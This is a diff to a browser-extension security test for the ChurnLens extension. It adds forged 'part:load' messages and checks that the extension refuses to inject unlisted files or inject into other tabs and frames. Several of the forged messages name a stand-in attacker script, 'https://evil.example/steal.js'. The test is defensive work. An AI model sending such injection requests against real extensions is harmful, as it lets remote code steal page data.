@@ -1,12 +1,15 @@
 /**
  * Nothing forged gets written: a content script's world on an enabled CRM page (as a compromised
- * or confused one would) sends privileged, mistyped, oversized and other-origin messages, and the
- * page itself tries postMessage, events and the extension API. All are refused, and every object
- * store of ChurnLens's database is the same afterwards, record for record.
+ * or confused one would) sends privileged, mistyped, oversized and other-origin messages, and asks
+ * for files to be injected that are not parts of ChurnLens's content script, or into another tab or
+ * frame; the page itself tries postMessage, events and the extension API. All are refused, nothing
+ * is injected into that page or the tab beside it, and every object store of ChurnLens's database
+ * is the same afterwards, record for record.
  */
 import { describe, expect, it } from 'vitest';
 import { tabIdOf } from '../../scripts/browser';
-import { readStores, useExtension } from './setup';
+import { readStores, useExtension, watchExtensionScripts } from './setup';
+import { CONTENT_PARTS } from '../../src/content/parts';
 
 const env = useExtension();
 
@@ -30,12 +33,15 @@ async function settled(): Promise<string> {
 
 describe('forged messages', () => {
   it('are refused, all of them, and leave the database as it was', async () => {
+    // An account open in the tab beside: its reader runs, and it is where a forged injection would aim.
     const account = await env.b.context.newPage();
     await account.goto(`${env.crm}/accounts/acc-0003`);
     await account.locator('[data-churnlens="badge"]').first().waitFor();
-    await account.close();
+    const accountTab = await tabIdOf(env.b, account);
+    const accountScripts = await watchExtensionScripts(env.b, account);
     // A page of the enabled origin with nothing to read: its content script world exists, and no reader writes.
     const page = await env.b.context.newPage();
+    const pageScripts = await watchExtensionScripts(env.b, page);
     await page.goto(`${env.crm}/bench/blank.html`);
     const tabId = await tabIdOf(env.b, page);
     const before = await settled();
@@ -66,6 +72,13 @@ describe('forged messages', () => {
       read({ read: { key: 'demo:acc-0003', name: 'x'.repeat(100_000), fields: {}, interactions: [], problems: [] } }),
       { type: 'page:list', url: `${env.crm}/accounts`, rows: Array.from({ length: 100_000 }, (_, i) => ({ key: `demo:f${i}`, name: `F${i}` })) },
       { type: 'account:delete-everything' },
+      // Injection: only a part by its name, only into the frame that asked.
+      { type: 'part:load', part: CONTENT_PARTS.picker },
+      { type: 'part:load', part: 'https://evil.example/steal.js' },
+      { type: 'part:load', part: 'picker', files: ['https://evil.example/steal.js'] },
+      { type: 'part:load', part: 'picker', tabId: accountTab },
+      { type: 'part:load', part: 'note-writer', target: { tabId: accountTab, allFrames: true } },
+      { type: 'part:load', part: 'picker', frameIds: [1] },
       'data:clear',
       null,
     ];
@@ -91,10 +104,17 @@ describe('forged messages', () => {
       return typeof api;
     });
     expect(fromPage).toBe('undefined');
+    // Nothing was injected: the blank page runs its gate alone, the account beside it its gate and reader.
+    const parts = (urls: string[]) => Object.entries(CONTENT_PARTS).filter(([, f]) => urls.some((u) => u.endsWith(`/${f}`))).map(([part]) => part);
+    expect(parts(await pageScripts.ranOnLoad())).toEqual([]);
+    expect(parts(await accountScripts.ranOnLoad())).toEqual(['reader']);
     // Ask the worker something ordinary, so anything the forgeries set going has had its turn first.
     await env.send({ type: 'settings:get' });
     expect(await settled()).toBe(before);
     console.log(`forgeries: ${forgeries.length + 3} tried (${forgeries.length} from a content script's world, 3 from the page), ${fromContent.filter((r) => r.ok).length} accepted`);
+    await pageScripts.stop();
+    await accountScripts.stop();
+    await account.close();
     await page.close();
   });
 });
